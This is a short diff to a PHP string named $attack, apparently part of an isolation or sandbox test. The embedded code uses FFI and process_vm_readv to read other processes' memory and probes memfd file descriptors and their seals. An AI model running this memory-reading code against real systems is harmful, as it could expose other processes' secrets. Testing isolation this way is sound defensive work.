@@ -28,10 +28,10 @@ $attack = <<<'PHP'
     $buffer = $libc->new('char[1048576]');
     $local = $libc->new('struct iovec');
     $remote = $libc->new('struct iovec');
-    $local->base = FFI::cast('void *', FFI::addr($buffer));
+    $local->base = $libc->cast('void *', FFI::addr($buffer));
     $read = function (int $pid, int $address, int $length) use ($libc, $buffer, $local, $remote) {
         $local->len = $remote->len = $length;
-        $remote->base = FFI::cast('void *', $address);
+        $remote->base = $libc->cast('void *', $address);
         $got = $libc->process_vm_readv($pid, FFI::addr($local), 1, FFI::addr($remote), 1, 0);
         return $got > 0 ? FFI::string($buffer, $got) : null;
     };
@@ -60,7 +60,7 @@ $attack = <<<'PHP'
     $files = [];
     foreach (scandir('/proc/self/fd') as $fd) {
         $link = (string) @readlink("/proc/self/fd/$fd");
-        if (!str_contains($link, 'memfd')) {
+        if (!str_contains($link, 'memfd:static-cache')) {
             continue;
         }
         $files[] = [$link, ($libc->fcntl((int) $fd, 1) & 1) === 1, $libc->fcntl((int) $fd, 1034) & 7];
@@ -83,7 +83,7 @@ $attack = <<<'PHP'
         }
         $open[] = $got;
         $local->len = $remote->len = 8;
-        $remote->base = FFI::cast('void *', FFI::addr($buffer));
+        $remote->base = $libc->cast('void *', FFI::addr($buffer));
         $open[] = $libc->process_vm_readv($pid, FFI::addr($local), 1, FFI::addr($remote), 1, 0) > 0 ? 1 : 0;
         $others[$who] = array_sum($open);
     }
